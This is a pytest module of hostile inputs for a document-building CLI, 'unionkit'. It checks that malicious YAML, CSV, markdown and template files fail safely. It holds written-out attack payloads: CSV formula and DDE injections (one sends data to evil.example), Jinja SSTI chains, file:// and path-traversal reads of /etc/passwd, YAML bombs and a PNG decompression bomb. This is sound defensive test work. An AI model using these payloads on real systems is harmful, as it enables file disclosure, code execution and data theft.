"""The hostile-input corpus (issue 7, part 7).

Every case builds a small world in tmp_path -- a document folder `doc/`, a secret file outside
it (`private/secret.txt`, and `secret.txt` beside it) -- feeds unionkit something broken or
malicious, and checks the same promises each time:

- the exit status is 0 or 1 (the case says which), never a crash or a traceback;
- a failure is reported as `FILE:LINE: field: message` naming the file, the line where there
  is one and the field where there is one;
- the secret file's content (and /etc/passwd's) appears in no output: stdout, stderr, the PDF
  (bytes, decompressed streams, text, metadata; it has no attachments at all) or the DOCX
  (text and every decompressed member of the zip); every link is http(s) or mailto;
- nothing is fetched from the network and no process is started;
- messages are safe to print on a terminal (no control characters);
- outputs land inside `-o DIR`, with no half-written file left behind.

Inputs that could keep the machine busy (template loops, huge lists) run in child processes
with a deadline and a memory cap instead: see `BOUNDED` at the end.

Big or binary inputs are generated at run time; small fixed ones live in `cases/`.
"""

from __future__ import annotations

import http.server
import os
import random
import re
import shutil
import socket
import struct
import subprocess
import textwrap
import threading
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from pypdf import PdfReader

from tests.conftest import MINIMAL, ROOT, Run, docx_text, pdf_text, run_cli, squash
from toolkit.loader import clean_text

# Each case's build starts its own worker processes, as a command run alone does: they are
# forked with the guard below in place, and no case can leave anything behind for the next.
pytestmark = pytest.mark.usefixtures("fresh_workers")

CASES_DIR = Path(__file__).parent / "cases"
SECRET = "SECRET-7f3a"


def _passwd_line() -> str:
    try:
        return Path("/etc/passwd").read_text().splitlines()[0]
    except (OSError, IndexError):
        return "root:x:0:0:"


# Things that must never appear in any output.
MARKERS = (SECRET, _passwd_line())
OK, FAIL = (0,), (1,)
ANY_LINE = -1
LINK_SCHEMES = ("https://", "http://", "mailto:")


# -- the world each case builds ----------------------------------------------------------------
@dataclass
class Env:
    """tmp_path laid out as a user's disk: a document folder, a secret outside it, an output."""

    root: Path

    @property
    def doc(self) -> Path:
        return self.root / "doc"

    @property
    def out(self) -> Path:
        return self.root / "out"

    @property
    def secret(self) -> Path:
        return self.root / "private" / "secret.txt"

    @property
    def tpl(self) -> Path:
        return self.doc / "tpl"

    def write(self, name: str, text: str) -> Path:
        """A text file under `doc/` (dedented); `name` may climb out with `../`."""
        return self.write_bytes(name, textwrap.dedent(text).lstrip("\n").encode("utf-8"))

    def write_bytes(self, name: str, data: bytes) -> Path:
        path = Path(os.path.normpath(self.doc / name))
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        return path

    def link(self, name: str, target: Path | str) -> Path:
        path = Path(os.path.normpath(self.doc / name))
        path.parent.mkdir(parents=True, exist_ok=True)
        path.symlink_to(target)
        return path

    def template(self) -> Path:
        """A copy of the built-in resolution template at `doc/tpl`, to make hostile."""
        shutil.copytree(ROOT / "templates" / "resolution", self.tpl)
        return self.tpl

    def build(self, source: Path | str, *more: str) -> list[str | Path]:
        return ["build", source, "-o", self.out, *more]


def make_env(root: Path) -> Env:
    env = Env(root)
    env.doc.mkdir()
    for secret in (env.secret, root / "secret.txt"):
        secret.parent.mkdir(exist_ok=True)
        secret.write_text(f"{SECRET} the branch's bank details: 12-34-56 87654321\n")
    return env


@dataclass
class Expect:
    """What a case runs and what must come of it (beyond the promises every case keeps)."""

    args: list[str | Path]
    exit: tuple[int, ...]
    errors: tuple[str, ...] = ()
    """When it fails: regexes, each matching a whole line of stderr."""
    texts: tuple[str, ...] = ()
    """When it builds: text printed literally in both the DOCX and the PDF."""
    check: Callable[[Run], None] | None = None


CASES: dict[str, Callable[[Env], Expect]] = {}
# The DOCX files the cases above built, for LibreOffice to open at the end of the module.
MADE_DOCX: list[Path] = []


def case(name: str) -> Callable[[Callable[[Env], Expect]], Callable[[Env], Expect]]:
    def register(function: Callable[[Env], Expect]) -> Callable[[Env], Expect]:
        assert name not in CASES, name
        CASES[name] = function
        return function

    return register


def at(file: Path | str, line: int | None = ANY_LINE, field: str = "", says: str = "") -> str:
    """A regex for an error line: `FILE:LINE: field: ... says ...`.

    `line` ANY_LINE: some line number; None: a line number is not required (there is none).
    """
    pattern = "^" + re.escape(str(file))
    if line == ANY_LINE:
        pattern += r":\d+"
    elif line is not None:
        pattern += f":{line}"
    pattern += ":" if line is not None else r"(:\d+)?:"
    if field:
        pattern += " " + re.escape(field) + ":"
    if says:
        pattern += ".*" + re.escape(says)
    return pattern + ".*$"


def template_error(env: Env, mentions: str) -> str:
    """An error (or warning) from a file of the template folder that mentions `mentions`."""
    return "^" + re.escape(str(env.tpl)) + r"/\S+?(:\d+)?: .*" + re.escape(mentions) + ".*$"


# -- YAML text for the cases ---------------------------------------------------------------------
def yaml_doc(data: dict[str, Any]) -> str:
    """YAML with every scalar double-quoted, so any text at all survives as written."""
    return yaml.safe_dump(
        data, default_style='"', allow_unicode=True, sort_keys=False, width=1_000_000
    )


def resolution(**changes: Any) -> dict[str, Any]:
    data: dict[str, Any] = {
        "template": "resolution",
        "title": "Solidarity with the oil workers",
        "branch": {"name": "Offshore Energy Branch", "union": "RMT", "meeting_date": "2013-12-10"},
        "notes": ["The strike lasted seven months."],
        "resolves": ["To write to the embassy."],
    }
    return _changed(data, changes)


def letter(**changes: Any) -> dict[str, Any]:
    data: dict[str, Any] = {
        "template": "letter",
        "subject": "Free the Zhanaozen oil workers",
        "body": "We ask for your support.",
        "signatories": [{"name": "Helen Marsh", "organisation": "STU"}],
    }
    return _changed(data, changes)


def _changed(data: dict[str, Any], changes: dict[str, Any]) -> dict[str, Any]:
    """`data` with dotted keys (`branch__name` for `branch.name`) replaced."""
    for key, value in changes.items():
        *parents, last = key.split("__")
        target = data
        for part in parents:
            target = target[part]
        target[last] = value
    return data


def motion(env: Env, text: str = MINIMAL, name: str = "motion.yaml") -> Path:
    return env.write(name, text)


def exported(env: Env) -> list[dict[str, str]]:
    """The rows of `out/clean.csv`, written by `unionkit signatories -o`."""
    import csv
    import io

    text = (env.out / "clean.csv").read_bytes().decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


def signatories_cmd(env: Env, *files: Path | str) -> list[str | Path]:
    return ["signatories", *files, "-o", env.out / "clean.csv"]


def png_bomb(width: int = 30_000, height: int = 30_000) -> bytes:
    """A 1-bit PNG of width×height black pixels that compresses to about 100 KB."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        crc = zlib.crc32(kind + data)
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", crc)

    row = b"\0" * (1 + (width + 7) // 8)
    packer = zlib.compressobj(9)
    pixels = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    )


def small_png() -> bytes:
    import io

    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", (64, 64), "#b3121b").save(buffer, "PNG")
    return buffer.getvalue()


# == YAML  ========================================================================================
@case("yaml-billion-laughs")
def _(env: Env) -> Expect:
    source = env.write_bytes("motion.yaml", (CASES_DIR / "billion-laughs.yaml").read_bytes())
    return Expect(env.build(source), FAIL, (at(source, 3), at(source, 4)))


@case("yaml-python-tags")
def _(env: Env) -> Expect:
    source = env.write_bytes("motion.yaml", (CASES_DIR / "python-tags.yaml").read_bytes())

    def nothing_ran(run: Run) -> None:
        assert not list(Path.cwd().glob("pwned-by-yaml")) and not list(env.root.rglob("pwned*"))

    return Expect(env.build(source), FAIL, (at(source, 3), at(source, 4)), check=nothing_ran)


@case("yaml-merge-key-alias")
def _(env: Env) -> Expect:
    source = motion(
        env,
        MINIMAL + "base: &base {name: X}\nsend_to:\n  - <<: *base\n    email: a@example.org\n",
    )
    return Expect(env.build(source), FAIL, (at(source, 11), at(source, 13)))


@case("yaml-duplicate-keys")
def _(env: Env) -> Expect:
    source = motion(env, MINIMAL + "title: Second title\nbranch:\n  name: Again\n")
    return Expect(
        env.build(source),
        FAIL,
        (at(source, 11, "title", "line 2"), at(source, 12, "branch")),
    )


@case("yaml-duplicate-nested-key")
def _(env: Env) -> Expect:
    source = motion(env, MINIMAL.replace("  union: RMT\n", "  union: RMT\n  name: Other\n"))
    return Expect(env.build(source), FAIL, (at(source, 6, "branch.name", "line 4"),))


@case("yaml-norway-and-yes-words-stay-text")
def _(env: Env) -> Expect:
    source = motion(
        env,
        """\
        template: resolution
        title: NO
        branch:
          name: on
          union: Off
        notes:
          - yes
          - y
          - FALSE
        resolves:
          - No
        send_to:
          - name: n
        """,
    )

    def words_kept(run: Run) -> None:
        lines = docx_text(env.out / "motion.docx").splitlines()
        for word in ("NO", "on", "Off", "yes", "y", "FALSE", "No", "n"):
            assert word in lines, f"{word!r} is not a line of the DOCX: {lines}"

    return Expect(env.build(source), OK, texts=("yes", "FALSE"), check=words_kept)


@case("yaml-numbers-phones-times-versions-stay-text")
def _(env: Env) -> Expect:
    source = motion(
        env,
        """\
        template: resolution
        title: 3.10
        branch:
          name: 0123
          union: +447700900123
          meeting_date: 2013-12-10
        notes:
          - 12:30
          - 1e3
          - 0x1F
          - 0o17
          - .inf
          - 1_000
          - 2011-12-16
          - 190:20:30
        resolves:
          - 007
        """,
    )
    texts = ("3.10", "0123", "+447700900123", "12:30", "1e3", "0x1F", "0o17", ".inf", "1_000")
    return Expect(env.build(source), OK, texts=(*texts, "2011-12-16", "190:20:30", "007"))


@case("yaml-language-no-is-not-norwegian-false")
def _(env: Env) -> Expect:
    source = motion(env, MINIMAL + "language: NO\n")
    return Expect(env.build(source), FAIL, (at(source, 11, "language"),))


INVALID_DATES = {
    "yaml-date-february-30": ("2024-02-30", "2024-02-30"),
    "yaml-date-february-29-not-leap": ("2023-02-29", "2023-02-29"),
    "yaml-date-month-13": ("2013-13-10", "2013-13-10"),
    "yaml-date-day-first": ("30/02/2011", "YYYY-MM-DD"),
    "yaml-date-year-zero": ("0000-01-01", ""),
    "yaml-date-five-digit-year": ("20131-12-10", "YYYY-MM-DD"),
}


def _invalid_date(value: str, says: str) -> Callable[[Env], Expect]:
    def build(env: Env) -> Expect:
        source = motion(env, MINIMAL.replace("2013-12-10", value))
        return Expect(env.build(source), FAIL, (at(source, 6, "branch.meeting_date", says),))

    return build


for _name, (_value, _says) in INVALID_DATES.items():
    case(_name)(_invalid_date(_value, _says))


@case("yaml-letter-date-invalid")
def _(env: Env) -> Expect:
    source = env.write("letter.yaml", yaml_doc(letter(date="2011-12-32")))
    return Expect(env.build(source), FAIL, (at(source, ANY_LINE, "date", "2011-12-32"),))


@case("yaml-deep-nesting-block-500")
def _(env: Env) -> Expect:
    nested = "".join("  " * level + "name:\n" for level in range(1, 501)) + "  " * 501 + "x\n"
    source = motion(env, MINIMAL.replace("branch:\n", "branch:\n" + nested, 1))
    return Expect(env.build(source), FAIL, (at(source),))


@case("yaml-deep-nesting-flow-500")
def _(env: Env) -> Expect:
    source = motion(env, MINIMAL + "believes: " + "[" * 500 + "x" + "]" * 500 + "\n")
    return Expect(env.build(source), FAIL, (at(source, 11),))


@case("yaml-deep-nesting-sequences-500")
def _(env: Env) -> Expect:
    source = motion(env, MINIMAL + "believes:\n  " + "- " * 500 + "x\n")
    return Expect(env.build(source), FAIL, (at(source),))


@case("yaml-binary-junk")
def _(env: Env) -> Expect:
    junk = b"\x7fELF\x02\x01\x01\x00" + random.Random(7).randbytes(4096)
    source = env.write_bytes("motion.yaml", junk)
    return Expect(env.build(source), FAIL, (at(source),))


@case("yaml-zero-bytes")
def _(env: Env) -> Expect:
    source = env.write_bytes("motion.yaml", b"")
    return Expect(env.build(source), FAIL, (at(source, 1),))


@case("yaml-only-a-comment")
def _(env: Env) -> Expect:
    source = env.write_bytes("motion.yaml", b"# template: resolution\n")
    return Expect(env.build(source), FAIL, (at(source, 1),))


@case("yaml-directory-given-as-file")
def _(env: Env) -> Expect:
    source = env.doc / "motion.yaml"
    source.mkdir()
    return Expect(env.build(source), FAIL, (at(source, None),))


@case("yaml-symlink-to-etc-passwd")
def _(env: Env) -> Expect:
    source = env.link("motion.yaml", "/etc/passwd")
    return Expect(env.build(source), FAIL, (at(source),))


@case("yaml-raw-nul-byte")
def _(env: Env) -> Expect:
    text = MINIMAL.lstrip().replace("with the oil", "with\x00the oil")
    source = env.write_bytes("motion.yaml", text.encode())
    return Expect(env.build(source), FAIL, (at(source, 2),))


@case("yaml-escaped-control-characters-removed")
def _(env: Env) -> Expect:
    title = "Soli\x00dar\x07ity\x1b[31m with\x0b the\x0c oil\x7f workers\u202e\ufeff"
    source = env.write("motion.yaml", yaml_doc(resolution(title=title)))

    def no_controls_in_docx(run: Run) -> None:
        with zipfile.ZipFile(env.out / "motion.docx") as archive:
            xml = archive.read("word/document.xml")
        assert not re.search(rb"[\x00-\x08\x0b\x0c\x0e-\x1f]|\xe2\x80\xae", xml)

    return Expect(env.build(source), OK, texts=("Solidarity",), check=no_controls_in_docx)


@case("yaml-utf16-without-bom")
def _(env: Env) -> Expect:
    source = env.write_bytes("motion.yaml", MINIMAL.lstrip().encode("utf-16-le"))
    return Expect(env.build(source), FAIL, (at(source),))


@case("yaml-utf16-with-bom")
def _(env: Env) -> Expect:
    # What Windows Notepad saves as "Unicode": read as the text it is.
    source = env.write_bytes("motion.yaml", MINIMAL.lstrip().encode("utf-16"))
    return Expect(env.build(source), OK, texts=("Solidarity with the oil workers",))


@case("yaml-several-documents")
def _(env: Env) -> Expect:
    source = motion(env, MINIMAL + "---\ntemplate: letter\n")
    return Expect(env.build(source), FAIL, (at(source),))


@case("yaml-over-10-mb")
def _(env: Env) -> Expect:
    padding = "# " + "x" * 98 + "\n"
    source = env.write("motion.yaml", MINIMAL + padding * 110_000)
    return Expect(env.build(source), FAIL, (at(source, 1),))


@case("yaml-huge-title")
def _(env: Env) -> Expect:
    source = env.write("motion.yaml", yaml_doc(resolution(title="Solidarity " * 50_000)))
    return Expect(env.build(source), FAIL, (at(source, 2, "title"),))


# == CSV signatories  =============================================================================
HEADER = "Name,Organisation,Role,Email\r\n"


@case("csv-utf8-bom")
def _(env: Env) -> Expect:
    data = ("\ufeff" + HEADER + "Amélie Lefèvre,CGT,,a@example.org\r\n").encode()
    source = env.write_bytes("form.csv", data)

    def names(run: Run) -> None:
        (row,) = exported(env)
        assert (row["name"], row["organisation"]) == ("Amélie Lefèvre", "CGT")

    return Expect(signatories_cmd(env, source), OK, check=names)


@case("csv-utf16")
def _(env: Env) -> Expect:
    text = "Name\tOrganisation\r\nКирилл Соколов\tКТР\r\nAmélie Lefèvre\tCGT\r\n"
    source = env.write_bytes("form.csv", text.encode("utf-16"))

    def names(run: Run) -> None:
        assert [row["name"] for row in exported(env)] == ["Кирилл Соколов", "Amélie Lefèvre"]

    return Expect(signatories_cmd(env, source), OK, check=names)


@case("csv-cp1252-from-excel")
def _(env: Env) -> Expect:
    text = (
        "Name;Organisation\r\nAmélie Lefèvre;Fédération CGT Pétrole\r\n"
        "Zoë Brontë;Café Workers’ Union\r\nFrançois Müller;Syndicat des Œuvres\r\n"
    )
    source = env.write_bytes("form.csv", text.encode("cp1252"))

    def names(run: Run) -> None:
        rows = exported(env)
        assert [row["name"] for row in rows] == ["Amélie Lefèvre", "Zoë Brontë", "François Müller"]
        assert rows[1]["organisation"] == "Café Workers’ Union"

    return Expect(signatories_cmd(env, source), OK, check=names)


@case("csv-semicolons-with-commas-inside")
def _(env: Env) -> Expect:
    text = "Name;Organisation;Role\r\nHelen Marsh;STU, London;General Secretary\r\n"
    source = env.write_bytes("form.csv", text.encode())

    def cells(run: Run) -> None:
        (row,) = exported(env)
        assert (row["role"], row["organisation"]) == ("General Secretary", "STU, London")

    return Expect(signatories_cmd(env, source), OK, check=cells)


@case("csv-ragged-rows")
def _(env: Env) -> Expect:
    text = HEADER + "Alice\r\nBob,Org B,Role B,b@example.org,extra,more\r\n,,\r\nCarol,Org C\r\n"
    source = env.write_bytes("form.csv", text.encode())

    def rows(run: Run) -> None:
        table = exported(env)
        assert [row["name"] for row in table] == ["Alice", "Bob", "Carol"]
        assert (table[1]["role"], table[1]["organisation"]) == ("Role B", "Org B")
        assert table[2]["organisation"] == "Org C"

    return Expect(signatories_cmd(env, source), OK, check=rows)


@case("csv-huge-field")
def _(env: Env) -> Expect:
    source = env.write_bytes("form.csv", (HEADER + "A" * 50_000 + ",STU,,\r\n").encode())
    return Expect(signatories_cmd(env, source), FAIL, (at(source, 2, "Name"),))


@case("csv-field-over-the-csv-module-limit")
def _(env: Env) -> Expect:
    source = env.write_bytes("form.csv", (HEADER + '"' + "A" * 200_000 + '",STU,,\r\n').encode())
    return Expect(signatories_cmd(env, source), FAIL, (at(source),))


FORMULAS = (
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
)


def _formula_csv(env: Env) -> Path:
    import csv
    import io

    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow(["Name", "Organisation", "Role"])
    for number, formula in enumerate(FORMULAS):
        writer.writerow([formula, f"Branch {number}", "\t=1+1"])
    return env.write_bytes("form.csv", buffer.getvalue().encode())


@case("csv-formula-cells-exported-as-text")
def _(env: Env) -> Expect:
    source = _formula_csv(env)

    def quoted(run: Run) -> None:
        rows = exported(env)
        assert [row["name"] for row in rows] == ["'" + formula for formula in FORMULAS]
        assert all(row["role"] == "'=1+1" for row in rows)

    return Expect(signatories_cmd(env, source), OK, check=quoted)


@case("csv-formula-cells-printed-literally-in-letter")
def _(env: Env) -> Expect:
    _formula_csv(env)
    source = env.write("letter.yaml", yaml_doc(letter(signatories="form.csv")))
    return Expect(env.build(source), OK, texts=FORMULAS[:4])


@case("csv-25000-rows")
def _(env: Env) -> Expect:
    rows = "".join(f"Person {n},Branch {n % 50},,\r\n" for n in range(25_000))
    source = env.write_bytes("form.csv", (HEADER + rows).encode())
    return Expect(signatories_cmd(env, source), FAIL, (at(source),))


@case("csv-25000-rows-in-letter")
def _(env: Env) -> Expect:
    rows = "".join(f"Person {n},Branch {n % 50},,\r\n" for n in range(25_000))
    csv_file = env.write_bytes("form.csv", (HEADER + rows).encode())
    source = env.write("letter.yaml", yaml_doc(letter(signatories="form.csv")))
    return Expect(env.build(source), FAIL, (at(csv_file),))


@case("csv-header-with-no-known-column")
def _(env: Env) -> Expect:
    text = "Timestamp,Favourite colour,Shoe size\r\n2013-11-20,red,42\r\n"
    source = env.write_bytes("form.csv", text.encode())
    return Expect(signatories_cmd(env, source), FAIL, (at(source, 1),))


@case("csv-that-is-really-a-png")
def _(env: Env) -> Expect:
    source = env.write_bytes("form.csv", small_png())
    return Expect(signatories_cmd(env, source), FAIL, (at(source, 1),))


@case("csv-over-10-mb")
def _(env: Env) -> Expect:
    rows = ("Someone,Somewhere,," + "x" * 80 + "\r\n") * 110_000
    source = env.write_bytes("form.csv", (HEADER + rows).encode())
    return Expect(signatories_cmd(env, source), FAIL, (at(source),))


@case("csv-unclosed-quote")
def _(env: Env) -> Expect:
    text = HEADER + '"Helen Marsh,STU,,\r\nPriya Raman,Labour,,\r\n'
    source = env.write_bytes("form.csv", text.encode())

    def reported(run: Run) -> None:
        # The rest of the file went into one cell: built or not, the user must hear of line 2.
        assert re.search(at(source, 2), run.stderr, re.MULTILINE), run.stdout + run.stderr

    return Expect(signatories_cmd(env, source), FAIL, (at(source, 2),), check=reported)


@case("csv-nul-bytes")
def _(env: Env) -> Expect:
    source = env.write_bytes("form.csv", (HEADER + "He\x00len Marsh,STU\x00,,\r\n").encode())

    def cleaned(run: Run) -> None:
        assert exported(env)[0]["name"] == "Helen Marsh"

    return Expect(signatories_cmd(env, source), OK, check=cleaned)


@case("csv-terminal-escapes-in-header")
def _(env: Env) -> Expect:
    text = "\x1b]0;pwned\x07\x1b[2JNom complet\x1b[0m,Adresse\x1b[5m\r\nHelen,Paris\r\n"
    source = env.write_bytes("form.csv", text.encode())
    return Expect(signatories_cmd(env, source), FAIL, (at(source, 1),))


@case("csv-failed-read-keeps-the-previous-export")
def _(env: Env) -> Expect:
    previous = "\ufeffname,role,organisation,group,email\r\nHelen Marsh,,STU,,\r\n".encode()
    env.out.mkdir()
    (env.out / "clean.csv").write_bytes(previous)
    source = env.write_bytes("form.csv", b"Timestamp,Colour\r\n2013-11-20,red\r\n")

    def kept(run: Run) -> None:
        assert (env.out / "clean.csv").read_bytes() == previous

    return Expect(signatories_cmd(env, source), FAIL, (at(source, 1),), check=kept)


@case("csv-symlink-to-etc-passwd-in-letter")
def _(env: Env) -> Expect:
    env.link("people.csv", "/etc/passwd")
    source = env.write("letter.yaml", yaml_doc(letter(signatories="people.csv")))
    return Expect(env.build(source), FAIL, (at(source, 4, "signatories"),))


@case("csv-yaml-list-with-anchors")
def _(env: Env) -> Expect:
    rows = "- &p {name: Helen Marsh, organisation: STU}\n" + "- *p\n" * 50
    source = env.write("people.yaml", rows)
    return Expect(signatories_cmd(env, source), FAIL, (at(source, 1), at(source, 2)))


# == Markdown and HTML in text fields  ============================================================
@dataclass(frozen=True)
class Markup:
    kind: str  # "resolution" or "letter"
    field: str  # dotted with "__", as `resolution()` takes it
    payload: str
    visible: tuple[str, ...] = ()
    refused: str = ""
    """A regex for the error line when unionkit refuses the value instead of printing it."""


MARKUP: dict[str, Markup] = {
    "md-script-in-item": Markup("resolution", "notes", '<script>alert("pwned")</script>'),
    "md-img-file-url-in-intro": Markup(
        "resolution", "intro", '<img src="file:///etc/passwd"> <img src="../private/secret.txt">'
    ),
    "md-link-attachment-in-letter-body": Markup(
        "letter",
        "body",
        '<link rel="attachment" href="/etc/passwd"> '
        '<a rel="attachment" href="../private/secret.txt">bank</a>',
    ),
    "md-iframe-in-title": Markup("resolution", "title", '<iframe src="file:///etc/passwd">'),
    "md-style-display-none": Markup("resolution", "notes", "<style>body{display:none}</style>"),
    "md-200-nested-blockquotes": Markup("resolution", "notes", "> " * 200 + "deep"),
    # Lists nested past what a reader can follow are refused, never silently cut short.
    "md-200-nested-bullet-lists": Markup(
        "resolution",
        "resolves",
        "- " * 200 + "deep",
        refused=r".*:\d+: resolves\.0: lists are nested",
    ),
    "md-200-nested-numbered-lists": Markup(
        "letter", "body", "1. " * 200 + "deep", refused=r".*:\d+: body: lists are nested"
    ),
    "md-12-nested-indented-lists": Markup(
        "letter",
        "body",
        "".join("  " * level + f"- level{level}\n" for level in range(12)),
        refused=r".*:\d+: body: lists are nested",
    ),
    "md-link-to-file-url": Markup(
        "resolution",
        "notes",
        "[bank](file:///etc/passwd) [x](../private/secret.txt) <file:///etc/passwd>",
    ),
    "md-image-of-etc-passwd": Markup(
        "resolution", "notes", "![x](/etc/passwd) ![y](../private/secret.txt)"
    ),
    "md-object-data": Markup(
        "resolution", "intro", '<object data="file:///etc/passwd" type="text/plain"></object>'
    ),
    "md-embed-in-branch-name": Markup(
        "resolution", "branch__name", '<embed src="../private/secret.txt">'
    ),
    "md-base-href": Markup(
        "letter",
        "body",
        '<base href="file:///etc/">\n\n<img src="passwd">',
        ('<base href="file:///etc/">', '<img src="passwd">'),
    ),
    "md-javascript-and-data-links": Markup(
        "resolution",
        "notes",
        "[click](javascript:alert(1)) [d](data:text/html;base64,PHNjcmlwdD4=)",
    ),
    "md-html-in-signatory-name": Markup(
        "letter",
        "signatories",
        '<img src="file:///etc/passwd"> {{ 7*7 }}',
        ('<img src="file:///etc/passwd">', "{{ 7*7 }}"),
    ),
    "text-jinja-and-entities-in-title": Markup(
        "resolution",
        "title",
        "{{ 7*7 }} {% include '/etc/passwd' %} {{ ''.__class__ }} &amp; \"q\" 'q'",
    ),
}


def _markup_case(markup: Markup) -> Callable[[Env], Expect]:
    def build(env: Env) -> Expect:
        value: Any = markup.payload
        if markup.field in ("notes", "resolves"):
            value = [markup.payload]
        if markup.field == "signatories":
            value = [{"name": markup.payload, "organisation": "STU"}]
        make = resolution if markup.kind == "resolution" else letter
        source = env.write(f"{markup.kind}.yaml", yaml_doc(make(**{markup.field: value})))
        if markup.refused:
            return Expect(env.build(source), FAIL, errors=(markup.refused,))
        visible = markup.visible or (markup.payload,)
        return Expect(env.build(source), OK, texts=visible)

    return build


for _name, _markup in MARKUP.items():
    case(_name)(_markup_case(_markup))


# == Templates  ===================================================================================
def _use_template(env: Env) -> Path:
    return motion(env, MINIMAL.replace("template: resolution", "template: ./tpl"))


def _insert_after_body(env: Env, snippet: str) -> int:
    """Put `snippet` on its own line after `<body>`; return its line number."""
    html = env.tpl / "document.html.j2"
    lines = html.read_text().splitlines()
    body = next(i for i, line in enumerate(lines) if line.startswith("<body>"))
    lines.insert(body + 1, snippet)
    html.write_text("\n".join(lines) + "\n")
    return body + 2


def _edit(path: Path, old: str, new: str) -> None:
    text = path.read_text()
    assert old in text, f"{old!r} not in {path}"
    path.write_text(text.replace(old, new, 1))


HTML_SSTI = {
    "tpl-html-ssti-subclasses": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "tpl-html-ssti-attr-filter": "{{ title|attr('__class__')|attr('__mro__') }}",
    "tpl-html-ssti-format-string": "{{ '{0.__class__.__init__.__globals__}'.format(title) }}",
    "tpl-html-ssti-self-context": "{{ self._TemplateReference__context }}",
    "tpl-html-ssti-namespace-globals": "{{ namespace.__init__.__globals__.os }}",
    "tpl-html-include-outside": "{% include '../../private/secret.txt' %}",
    "tpl-html-huge-range": "{% for i in range(10**9) %}x{% endfor %}",
}


def _html_ssti_case(expression: str) -> Callable[[Env], Expect]:
    def build(env: Env) -> Expect:
        env.template()
        line = _insert_after_body(env, expression)
        source = _use_template(env)
        return Expect(
            env.build(source, "-f", "pdf"), FAIL, (at(env.tpl / "document.html.j2", line),)
        )

    return build


for _name, _expression in HTML_SSTI.items():
    case(_name)(_html_ssti_case(_expression))


@case("tpl-html-include-symlink-to-secret")
def _(env: Env) -> Expect:
    env.template()
    env.link("tpl/leak.html", env.secret)
    line = _insert_after_body(env, "{% include 'leak.html' %}")
    source = _use_template(env)
    return Expect(env.build(source), FAIL, (at(env.tpl / "document.html.j2", line),))


DOCX_SSTI = {
    "tpl-docx-ssti-class-mro": "{{ title.__class__.__mro__ }}",
    "tpl-docx-ssti-attr-filter": "{{ title|attr('__class__')|attr('__base__') }}",
    "tpl-docx-ssti-format-string": "{{ '{0.__class__.__init__.__globals__}'.format(title) }}",
    "tpl-docx-include-file": "{% include '/etc/passwd' %}",
}


def _docx_ssti_case(expression: str) -> Callable[[Env], Expect]:
    def build(env: Env) -> Expect:
        import docx

        env.template()
        document = docx.Document(str(env.tpl / "document.docx"))
        document.add_paragraph(expression)
        document.save(str(env.tpl / "document.docx"))
        source = _use_template(env)
        docx_file = env.tpl / "document.docx"
        return Expect(env.build(source, "-f", "docx"), FAIL, (at(docx_file, None),))

    return build


for _name, _expression in DOCX_SSTI.items():
    case(_name)(_docx_ssti_case(_expression))


@case("tpl-css-import-etc-passwd-and-secret")
def _(env: Env) -> Expect:
    css = env.template() / "style.css"
    css.write_text(
        "@import url(file:///etc/passwd);\n@import url(../../private/secret.txt);\n"
        + css.read_text()
    )
    return Expect(env.build(_use_template(env)), FAIL, (template_error(env, "passwd"),))


@case("tpl-css-font-face-file-url")
def _(env: Env) -> Expect:
    css = env.template() / "style.css"
    css.write_text(
        css.read_text()
        + "@font-face { font-family: Leak; src: url(file:///etc/passwd); }\n"
        + f"@font-face {{ font-family: Leak2; src: url({env.secret.as_uri()}); }}\n"
        + "h1 { font-family: Leak, Leak2, serif; }\n"
    )
    return Expect(env.build(_use_template(env)), FAIL, (template_error(env, "passwd"),))


@case("tpl-css-background-http")
def _(env: Env) -> Expect:
    css = env.template() / "style.css"
    css.write_text(css.read_text() + "body { background: url(http://example.org/x.png); }\n")
    return Expect(
        env.build(_use_template(env)), FAIL, (template_error(env, "http://example.org/x.png"),)
    )


@case("tpl-svg-with-image-of-etc-passwd")
def _(env: Env) -> Expect:
    env.template()
    shutil.copy(CASES_DIR / "badge.svg", env.tpl / "badge.svg")
    _insert_after_body(env, '<img src="badge.svg" alt="">')
    return Expect(env.build(_use_template(env)), FAIL, (template_error(env, "passwd"),))


@case("tpl-img-symlink-inside-folder-to-etc-passwd")
def _(env: Env) -> Expect:
    env.template()
    env.link("tpl/leak.png", "/etc/passwd")
    env.link("tpl/leak2.png", env.secret)
    _insert_after_body(env, '<img src="leak.png" alt=""><img src="leak2.png" alt="">')
    return Expect(env.build(_use_template(env)), FAIL, (template_error(env, "leak.png"),))


@case("tpl-stylesheet-symlink-to-secret")
def _(env: Env) -> Expect:
    env.template()
    env.link("tpl/extra.css", env.secret)
    _edit(
        env.tpl / "document.html.j2",
        '<link rel="stylesheet" href="style.css">',
        '<link rel="stylesheet" href="style.css"><link rel="stylesheet" href="extra.css">',
    )
    return Expect(env.build(_use_template(env)), FAIL, (template_error(env, "extra.css"),))


@case("tpl-link-attachment-outside")
def _(env: Env) -> Expect:
    env.template()
    _edit(
        env.tpl / "document.html.j2",
        "<head>",
        '<head>\n  <link rel="attachment" href="../../secret.txt">'
        '<link rel="attachment" href="/etc/passwd">',
    )
    _insert_after_body(env, '<a rel="attachment" href="../../private/secret.txt">bank</a>')
    return Expect(env.build(_use_template(env)), FAIL, (template_error(env, "secret.txt"),))


@case("tpl-object-and-embed")
def _(env: Env) -> Expect:
    env.template()
    _insert_after_body(
        env,
        '<object data="file:///etc/passwd" type="image/svg+xml"></object>'
        '<embed src="../../private/secret.txt" type="image/svg+xml">',
    )
    return Expect(env.build(_use_template(env)), FAIL, (template_error(env, "passwd"),))


